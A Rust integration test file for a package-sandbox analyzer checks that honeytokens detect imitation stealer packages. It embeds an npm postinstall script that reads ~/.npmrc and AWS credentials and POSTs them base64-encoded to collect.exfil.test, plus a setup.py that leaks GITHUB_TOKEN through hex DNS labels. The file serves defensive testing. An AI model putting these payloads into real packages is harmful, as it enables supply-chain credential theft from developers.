//! Honeytokens end to end: imitation stealers written here (harmless look-alikes) run
//! in the sandbox through `ossprey analyze`, and the report's `dynamic.honeytokens`
//! shows what they read and what they sent, linked to the connection or DNS query.
//!
//! Needs root, user namespaces and the provisioned runtime (`.ci/run` builds it; by
//! hand: `cargo run -p ossprey-runtime --example provision_runtime`). Each test prints
//! why it skips otherwise.
//!
//! Safety: the packages only reach names under `exfil.test` (a reserved TLD), which the
//! sandbox's sinkhole resolves. The sandbox's network hook verifies that the namespace
//! has only `lo` before any package code runs and refuses to run otherwise; each test
//! also asserts the interfaces every phase reports. The "secrets" are fake, generated
//! per run by ossprey.

mod common;

use std::path::Path;

use base64::Engine as _;
use common::{assert_sealed, b64, report, runtime_dir_or_skip};
use ossprey_testkit::archives::tar_gz;
use serde_json::{Value, json};

/// Runs `ossprey analyze TARGET` for `phases` and returns its JSON report, after
/// checking that it succeeded and that every phase ran sealed.
fn analyze(runtime_dir: &Path, cache: &Path, target: &Path, phases: &str) -> Value {
    let target = target.to_str().expect("temporary paths are UTF-8");
    let out = common::analyze(
        runtime_dir,
        cache,
        &[
            target,
            "--format",
            "json",
            "--phases",
            phases,
            "--phase-timeout",
            "60",
        ],
    );
    let r = report(&out);
    assert_eq!(out.status.code(), Some(0), "{r:#}");
    for phase in phases.split(',') {
        assert_sealed(&r["dynamic"][phase]);
    }
    r
}

fn hits<'a>(r: &'a Value, how: &str) -> Vec<&'a Value> {
    r["dynamic"]["honeytokens"]["hits"]
        .as_array()
        .map(|a| a.iter().filter(|h| h["how"] == how).collect())
        .unwrap_or_default()
}

fn planted<'a>(r: &'a Value, kind: &str) -> Vec<&'a Value> {
    r["dynamic"]["honeytokens"]["planted"]
        .as_array()
        .map(|a| a.iter().filter(|p| p["kind"] == kind).collect())
        .unwrap_or_default()
}

/// No full token value in recorded exec environments: they are redacted.
fn assert_env_redacted(r: &Value) {
    for phase in ["install", "import", "execute"] {
        let Some(procs) = r["dynamic"][phase]["processes"].as_array() else {
            continue;
        };
        for p in procs {
            for e in p["execs"].as_array().into_iter().flatten() {
                for name in ["GITHUB_TOKEN", "NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"] {
                    if let Some(v) = e["environment"][name].as_str() {
                        assert!(v.starts_with("<honeytoken "), "{name}={v} not redacted");
                    }
                }
            }
        }
    }
}

#[test]
fn npm_postinstall_stealing_npmrc_and_aws_credentials_over_http_is_caught() {
    let test = "npm_postinstall_stealing_npmrc_and_aws_credentials_over_http_is_caught";
    let Some(runtime) = runtime_dir_or_skip(test) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    // Reads two credential files and POSTs them base64-encoded, as stealers do.
    let steal = b"const fs=require('fs'),os=require('os'),http=require('http');\n\
const home=os.homedir();\n\
const loot=fs.readFileSync(home+'/.npmrc','utf8')+fs.readFileSync(home+'/.aws/credentials','utf8');\n\
const body=Buffer.from(loot).toString('base64');\n\
const req=http.request({host:'collect.exfil.test',port:80,path:'/upload',method:'POST',\n\
  headers:{'content-type':'text/plain'}},res=>{res.resume();res.on('end',()=>console.log('sent'));});\n\
req.on('error',e=>{console.error('post failed',e.message);process.exitCode=1;});\n\
req.end(body);\n\
console.log('FINGERPRINT '+JSON.stringify({host:os.hostname(),user:os.userInfo().username,\n\
  home:os.homedir(),env_user:process.env.USER,machine_id:fs.readFileSync('/etc/machine-id','utf8').trim()}));\n";
    let manifest = json!({
        "name": "imitation-stealer",
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {"postinstall": "node steal.js"}
    });
    let tgz = dir.path().join("imitation-stealer-1.0.0.tgz");
    std::fs::write(
        &tgz,
        tar_gz(&[
            (
                "package/package.json",
                serde_json::to_vec_pretty(&manifest).unwrap().as_slice(),
            ),
            ("package/steal.js", steal.as_slice()),
            ("package/index.js", b"module.exports = () => 1;\n"),
        ]),
    )
    .unwrap();
    let r = analyze(&runtime, &dir.path().join("cache"), &tgz, "install");
    let install = &r["dynamic"]["install"];
    assert_eq!(install["status"], "completed", "{install:#}");
    let honey = &r["dynamic"]["honeytokens"];
    eprintln!("honeytokens: {honey:#}");

    // Reads: exactly the two files, by the postinstall's node, in the install phase
    // (npm's own load of ~/.npmrc is a note, not a hit).
    let reads = hits(&r, "read");
    let mut read_paths: Vec<&str> = reads
        .iter()
        .map(|h| {
            assert_eq!(h["phase"], "install");
            assert!(h["pid"].as_i64().is_some_and(|p| p > 1));
            assert!(h["process"].as_str().unwrap().contains("steal.js"), "{h:#}");
            assert_eq!(h["succeeded"], true);
            h["path"].as_str().unwrap()
        })
        .collect();
    read_paths.sort_unstable();
    assert_eq!(read_paths.len(), 2, "{reads:#?}");
    assert!(
        read_paths[0].ends_with("/.aws/credentials"),
        "{read_paths:?}"
    );
    assert!(read_paths[1].ends_with("/.npmrc"), "{read_paths:?}");

    // Egress: each token of both files, base64, in the body of the POST to the name.
    let egress = hits(&r, "egress");
    for kind in ["npm_token", "aws_access_key_id", "aws_secret_access_key"] {
        let hit = egress
            .iter()
            .find(|h| h["kind"] == kind && h["path"].is_string())
            .unwrap_or_else(|| panic!("no egress hit of the file's {kind}: {egress:#?}"));
        assert_eq!(hit["encoding"], "base64", "{hit:#}");
        assert_eq!(hit["channel"], "http");
        assert_eq!(hit["location"], "body");
        assert_eq!(hit["hostname"], "collect.exfil.test");
        assert_eq!(hit["phase"], "install");
        assert!(
            hit["destination"].as_str().unwrap().ends_with(":80"),
            "{hit:#}"
        );
        // The hit's prefix is the planted token's.
        let planted = planted(&r, kind);
        assert!(
            planted
                .iter()
                .any(|p| p["prefix"] == hit["token_prefix"] && p["path"] == hit["path"]),
            "{planted:#?}"
        );
    }
    // Nothing else left: not the environment's tokens, not other files'.
    assert_eq!(egress.len(), 3, "{egress:#?}");

    // The hit is linked to a connection the report holds, whose body decodes to the
    // file contents.
    let conn = install["network"]["connections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["hostname"] == "collect.exfil.test")
        .expect("the POST's connection");
    let body = b64(&conn["http"][0]["body_base64"]);
    let loot = base64::engine::general_purpose::STANDARD
        .decode(&body)
        .unwrap();
    let loot = String::from_utf8(loot).unwrap();
    assert!(loot.contains("_authToken=npm_"), "{loot}");
    assert!(loot.contains("aws_access_key_id = AKIA"), "{loot}");
    assert_env_redacted(&r);
    assert_plausible_host(install);
}

/// What the package saw of its host (printed by the imitation as `FINGERPRINT {json}`)
/// looks like a developer's machine.
fn assert_plausible_host(phase: &Value) {
    let stdout = phase["stdout"]["text"].as_str().unwrap();
    let line = stdout
        .lines()
        .find_map(|l| l.trim().strip_prefix("FINGERPRINT "))
        .unwrap_or_else(|| panic!("no fingerprint in stdout: {stdout}"));
    let seen: Value = serde_json::from_str(line).unwrap();
    eprintln!("the package saw: {seen}");
    let user = seen["user"].as_str().unwrap();
    assert_ne!(user, "root");
    assert_eq!(seen["env_user"], user);
    assert_eq!(seen["home"], format!("/home/{user}"));
    let host = seen["host"].as_str().unwrap();
    for field in [host, user] {
        for word in ["sandbox", "box", "analysis", "ossprey"] {
            assert!(!field.contains(word), "{field}");
        }
    }
    let id = seen["machine_id"].as_str().unwrap();
    assert_eq!(id.len(), 32, "{id}");
    assert!(
        id.chars().all(|c| matches!(c, '0'..='9' | 'a'..='f')),
        "{id}"
    );
    assert_eq!(&id[12..13], "4", "{id}");
}

#[test]
fn pypi_setup_py_sending_github_token_hex_in_dns_labels_is_caught() {
    let test = "pypi_setup_py_sending_github_token_hex_in_dns_labels_is_caught";
    let Some(runtime) = runtime_dir_or_skip(test) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let setup = br#"import binascii, os, socket
from setuptools import setup
token = os.environ.get('GITHUB_TOKEN', '')
h = binascii.hexlify(token.encode()).decode()
half = len(h) // 2
try:
    socket.getaddrinfo(h[:half] + '.' + h[half:] + '.exfil.test', 80)
except OSError as e:
    print('lookup failed', e)
setup(name='imitation-dnsleak', version='0.1.0', py_modules=['imitation_dnsleak'])
"#;
    let pkg_info = b"Metadata-Version: 2.1\nName: imitation-dnsleak\nVersion: 0.1.0\n";
    let sdist = dir.path().join("imitation_dnsleak-0.1.0.tar.gz");
    std::fs::write(
        &sdist,
        tar_gz(&[
            ("imitation_dnsleak-0.1.0/setup.py", setup.as_slice()),
            ("imitation_dnsleak-0.1.0/PKG-INFO", pkg_info.as_slice()),
            ("imitation_dnsleak-0.1.0/imitation_dnsleak.py", b"X = 1\n"),
        ]),
    )
    .unwrap();
    let r = analyze(&runtime, &dir.path().join("cache"), &sdist, "install");
    let install = &r["dynamic"]["install"];
    assert_eq!(install["status"], "completed", "{install:#}");
    eprintln!("honeytokens: {:#}", r["dynamic"]["honeytokens"]);

    let egress = hits(&r, "egress");
    assert!(!egress.is_empty(), "no egress hit: {:#}", r["dynamic"]);
    for hit in &egress {
        assert_eq!(hit["kind"], "github_token", "{hit:#}");
        assert_eq!(hit["env"], "GITHUB_TOKEN");
        assert_eq!(hit["encoding"], "hex");
        assert_eq!(hit["channel"], "dns");
        assert_eq!(hit["location"], "query name, labels joined");
        assert_eq!(hit["phase"], "install");
        let name = hit["hostname"].as_str().unwrap();
        assert!(name.ends_with(".exfil.test"), "{name}");
        // Split across two labels of 40 hex digits each: "ghp_" is 6768705f.
        let labels: Vec<&str> = name.split('.').collect();
        assert_eq!(labels.len(), 4, "{name}");
        assert!(labels[0].starts_with("6768705f"), "{name}");
        // The query is in the phase's DNS log.
        let dns = install["network"]["dns"].as_array().unwrap();
        assert!(dns.iter().any(|q| q["hostname"] == name), "{dns:#?}");
        assert_eq!(
            hit["token_prefix"],
            planted(&r, "github_token")
                .iter()
                .find(|p| p["env"] == "GITHUB_TOKEN")
                .unwrap()["prefix"]
        );
    }
    // setup.py never opened a honeytoken file.
    assert!(hits(&r, "read").is_empty(), "{:#?}", hits(&r, "read"));
    assert_env_redacted(&r);
}
